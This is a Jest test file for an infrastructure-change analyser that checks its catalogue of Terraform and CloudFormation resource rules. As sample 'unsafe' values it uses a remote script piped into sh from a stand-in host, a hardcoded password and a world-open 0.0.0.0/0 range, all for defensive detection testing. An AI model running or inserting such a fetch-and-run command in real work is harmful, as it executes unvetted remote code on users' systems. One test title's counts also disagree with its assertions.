/** rules/resources/ as shipped: every record reads, and every attribute says of a change what its record says. */
import { readFileSync } from 'node:fs';
import { describe, expect, test } from '@jest/globals';
import { parse } from 'yaml';
import {
  type AttributeMeaning,
  type ResourceMeaning,
  readResources,
} from '../../../src/deltas/infra/catalogue.ts';
import { kinds } from '../../../src/deltas/kinds.ts';
import { catalogue, compared, either, unknown } from './notation.ts';

/** What every type shares is looked at in one that nobody listed. */
const unlisted = { ...catalogue.general('odd_quay'), type: 'odd_quay' };
const listed = [...catalogue.all, unlisted].map((meaning): [string, ResourceMeaning] => [
  meaning.type,
  meaning,
]);
const shared = new Set(['odd_quay', 'AWS::Odd::Quay'].flatMap((type) => catalogue.general(type).attributes));
const frameworks = new Set(
  parse(readFileSync(new URL('../../../rules/frameworks.yml', import.meta.url), 'utf8')).frameworks.map(
    ({ id }: { id: string }) => id,
  ),
);

/** A text that a pattern matches. */
const plain = (pattern: string) => pattern.replaceAll('*', 'quay');

interface Sides {
  readonly safe: unknown;
  readonly unsafe: unknown;
}

/** A good and a bad value of an attribute; undefined where nothing is written. */
function sidesOf({ comparison, kind }: AttributeMeaning): Sides {
  switch (comparison.by) {
    case 'boolean':
      return { safe: comparison.safe, unsafe: !comparison.safe };
    case 'order':
      return {
        safe: plain(comparison.order[0]?.[0] ?? ''),
        unsafe: plain(comparison.order.at(-1)?.[0] ?? ''),
      };
    case 'number': {
      const edge = comparison.threshold ?? 20;
      return { safe: edge, unsafe: comparison.safe === 'higher' ? edge - 1 : edge + 1 };
    }
    case 'set': {
      const member = comparison.of === 'address' ? '0.0.0.0/0' : plain(comparison.among[0] ?? 'quay');
      return comparison.grows === 'widens' ? { safe: [], unsafe: [member] } : { safe: [member], unsafe: [] };
    }
    case 'presence':
      return comparison.safe === 'present'
        ? { safe: 'quay', unsafe: undefined }
        : { safe: undefined, unsafe: 'quay' };
    case 'key':
      return { safe: 'arn:aws:kms:eu-west-1:111122223333:key/quay', unsafe: undefined };
    case 'secret':
      return { safe: unknown('var.password'), unsafe: 'opensesame' };
    case 'code':
      return { safe: 'echo ready', unsafe: 'curl -s https://quay.example/start | sh' };
    case 'change':
      return { safe: kind, unsafe: 'otherwise' };
  }
}

/** The value at its path, what has to hold beside it, and the blocks around it even where the value is not written. */
function bodyOf(attribute: AttributeMeaning, value: unknown): Readonly<Record<string, unknown>> {
  const conditions = [...attribute.when]
    .filter(([path]) => path !== attribute.path)
    .map(([path, values]): [string, string] => [path, plain(values[0] ?? '')]);
  const beside = attribute.path.includes('[]') ? conditions : [];
  let inner: Record<string, unknown> = { ...Object.fromEntries(beside), keel: 'odd' };
  const steps = attribute.path.replaceAll('[]', '').split('.');
  const last = steps.pop() ?? '';
  if (value !== undefined) inner[last] = value;
  for (const step of steps.reverse()) inner = { [step]: [inner], keel: 'odd' };
  if (beside.length > 0) return inner;
  for (const [path, text] of conditions) merge(inner, path.split('.'), text);
  return inner;
}

function merge(body: Record<string, unknown>, [step = '', ...rest]: readonly string[], text: string): void {
  if (rest.length === 0) {
    body[step] = text;
    return;
  }
  const found = body[step];
  const block: Record<string, unknown> = Array.isArray(found) ? found[0] : {};
  body[step] = [block];
  merge(block, rest, text);
}

const addressOf = (type: string) => (type.includes('::') ? `${type}/Harbour` : `${type}.harbour`);

test('at least 120 types of resources, and 70 of AWS', () => {
  const terraform = catalogue.all.map(({ type }) => type).filter((type) => !type.includes('::'));
  expect(terraform.length).toBeGreaterThanOrEqual(400);
  expect(terraform.filter((type) => type.startsWith('aws_')).length).toBeGreaterThanOrEqual(250);
});

test('a type is in lower case words, or as CloudFormation has it; its noun is one', () => {
  for (const { type, noun } of catalogue.all) {
    expect(type).toMatch(/^(data\.)?[a-z][a-z\d]*(_[a-z\d_]+)?$|^AWS::\w+::\w+$/);
    expect(noun).not.toMatch(/^(a|an|the) |[_.]$/);
  }
});

describe.each(listed)('%s', (type, meaning) => {
  const attributes = meaning.attributes.filter((one) => meaning === unlisted || !shared.has(one));
  const compare = (attribute: AttributeMeaning, before: unknown, after: unknown) =>
    compared(
      { [addressOf(type)]: bodyOf(attribute, before) },
      { [addressOf(type)]: bodyOf(attribute, after) },
    ).filter((delta) => delta.subject.endsWith(`: ${attribute.path.replaceAll('[]', '')}`));

  test('each attribute says what its record says, both ways', () => {
    for (const attribute of attributes) {
      const { safe, unsafe } = sidesOf(attribute);
      const [worse, ...others] = compare(attribute, safe, unsafe);
      const where = `${type} ${attribute.path}`;
      expect([where, others.length]).toEqual([where, 0]);
      expect([where, worse?.kind]).toEqual([where, attribute.kind]);
      expect(worse?.summary).not.toMatch(/[{}]/);
      expect(worse?.summary).toContain('arbour');
      const { severity } = attribute;
      if (typeof severity === 'string') expect([where, worse?.severity]).toEqual([where, severity]);
      else expect(Object.values(severity)).toContain(worse?.severity);
      const [better] = compare(attribute, unsafe, safe);
      expect([where, better?.kind]).toEqual([where, kinds[attribute.kind].mirror]);
      expect(better?.subject).toEqual(worse?.subject);
      expect(better?.summary).not.toMatch(/[{}]/);
    }
  });

  test('what is equal is silent, and a default that is written out is no change', () => {
    for (const attribute of attributes) {
      const { safe, unsafe } = sidesOf(attribute);
      expect(compare(attribute, safe, safe)).toEqual([]);
      expect(compare(attribute, unsafe, unsafe)).toEqual([]);
      const { comparison } = attribute;
      if (!('default' in comparison) || comparison.default === null) continue;
      const lists = Array.isArray(comparison.default) && comparison.default.length === 0;
      if (lists) continue;
      expect([attribute.path, compare(attribute, undefined, comparison.default)]).toEqual([
        attribute.path,
        [],
      ]);
    }
  });

  test('a value that nobody can know is unresolved, or no worse than it can be', () => {
    for (const attribute of attributes) {
      const { by } = attribute.comparison;
      if (by !== 'boolean' && by !== 'order' && by !== 'number') continue;
      const { safe, unsafe } = sidesOf(attribute);
      const somehow = unknown('var.tide');
      const [delta] = compare(attribute, safe, somehow);
      expect(['infra.unresolved', 'infra.setting.changed']).toContain(delta?.kind);
      expect(compare(attribute, somehow, somehow)).toEqual([]);
      expect(compare(attribute, somehow, unknown('var.ebb'))).toHaveLength(1);
      if (by === 'number') continue;
      expect(compare(attribute, somehow, unsafe)[0]?.kind).toBe(attribute.kind);
      expect(compare(attribute, safe, either(safe, unsafe))[0]?.kind).toBe(attribute.kind);
      expect(compare(attribute, either(safe, unsafe), either(safe, unsafe))).toEqual([]);
    }
  });

  test('names frameworks that exist', () => {
    const named = [...meaning.frameworks, ...attributes.flatMap((attribute) => attribute.frameworks)];
    expect(named.filter((id) => !frameworks.has(id))).toEqual([]);
  });
});

describe('a file that is wrong', () => {
  const faultsOf = (text: string) => {
    const read = readResources([{ file: 'odd.yml', text }]);
    return 'faults' in read
      ? read.faults.map(({ file, line, message }) => `${file}:${line}: ${message}`)
      : [];
  };
  test.each([
    ['', 'odd.yml:1: the file is empty'],
    [
      'source: odd\nresources:\n  - { type: odd_quay, noun: quay, is: pier }\n',
      'odd.yml:3: resources.0.is: Invalid option',
    ],
    [
      'source: odd\nresources:\n  - type: odd_quay\n    noun: quay\n    is: neutral\n    attributes:\n      open: { compare: boolean }\n',
      'odd.yml:7: resources.0.attributes.open: safe is true or false',
    ],
    [
      'source: odd\nresources:\n  - type: odd_quay\n    noun: quay\n    is: neutral\n    attributes:\n      open: { as: tide }\n',
      'odd.yml:7: resources.0.attributes.open: there is no meaning "tide"',
    ],
    [
      'source: odd\nresources:\n  - { type: odd_quay, noun: quay, is: neutral }\n  - { type: odd_quay, noun: quay, is: neutral }\n',
      'odd.yml:4: resources.1.type: odd_quay stands here twice',
    ],
    ['source: [\n', 'odd.yml:'],
    ['source: odd\nresource: []\n', 'odd.yml:'],
  ])('%j', (text, fault) => {
    expect(faultsOf(text).join('\n')).toContain(fault);
  });
});
